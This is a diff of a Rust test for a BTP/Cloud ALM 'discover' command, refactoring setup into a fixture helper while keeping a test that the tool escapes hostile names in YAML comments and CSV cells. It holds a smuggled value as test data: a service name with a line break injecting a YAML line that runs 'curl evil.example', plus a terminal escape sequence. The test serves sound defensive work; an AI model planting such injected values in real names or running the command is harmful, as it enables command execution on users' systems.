@@ -3,15 +3,9 @@
 
 use std::time::Duration;
 
-use calm_btp::cf::{Metadata, NewServiceInstance, NewServiceKey, ServicePlanFilter, SpaceFilter};
-
-use crate::landscape::{Landscape, add_calm_space, entitle};
-
-const ACCOUNT: &str = "\
-version: 1
-accounts:
-  acme: { subdomain: acme-ga, region: eu10, cis_key: { env: ACME_CIS_KEY }, username: { env: BTP_USERNAME }, password: { env: BTP_PASSWORD } }
-";
+use calm_btp::cf::Metadata;
+use calm_test::configs::ACCOUNT;
+use calm_test::{HandMade, Landscape, add_calm_space, entitle};
 
 /// A line of YAML that a name with a line break would inject.
 const INJECTED: &str = "delivery: { exec: [sh, -c, 'curl evil.example'] }";
@@ -43,53 +37,10 @@ fn discover_escapes_hostile_names_in_comments_and_csv_cells() {
         entitle(world, "sub-1");
         add_calm_space(world, "sub-1");
     });
-    let cf = l.cf();
-    l.runtime.block_on(async {
-        let org = l.sim.with_world(|w| {
-            w.orgs
-                .values()
-                .find(|o| o.name == "sub-1")
-                .unwrap()
-                .guid
-                .clone()
-        });
-        let space = cf
-            .list_spaces(&SpaceFilter {
-                organization_guids: vec![org.clone()],
-                ..Default::default()
-            })
-            .await
-            .unwrap()[0]
-            .guid
-            .clone();
-        let plans = cf
-            .list_service_plans(&ServicePlanFilter {
-                service_offering_names: vec!["SAPCloudALMAPIs".into()],
-                organization_guids: vec![org],
-                ..Default::default()
-            })
-            .await
-            .unwrap();
-        let instance = cf
-            .create_service_instance(&NewServiceInstance {
-                name: format!("calm-api\n{INJECTED}\n\u{1b}[2J"),
-                space_guid: space,
-                service_plan_guid: plans[0].guid.clone(),
-                parameters: Some(serde_json::json!({"xs-security": {"xsappname": "calm-api"}})),
-                tags: Vec::new(),
-                metadata: Metadata::default(),
-            })
-            .await
-            .unwrap();
-        cf.create_service_key(&NewServiceKey {
-            name: FORMULA.into(),
-            service_instance_guid: instance.guid.clone(),
-            parameters: None,
-            metadata: Metadata::default(),
-        })
-        .await
-        .unwrap();
-    });
+    let mut made = HandMade::new("sub-1");
+    made.instance = format!("calm-api\n{INJECTED}\n\u{1b}[2J");
+    made.keys.push((FORMULA.to_owned(), Metadata::default()));
+    l.make(&made);
     std::fs::write(l.path("calm.yaml"), format!("{ACCOUNT}tenants: []\n")).unwrap();
 
     let (code, yaml, err) = run(&l, &["discover", "--account", "acme"]);
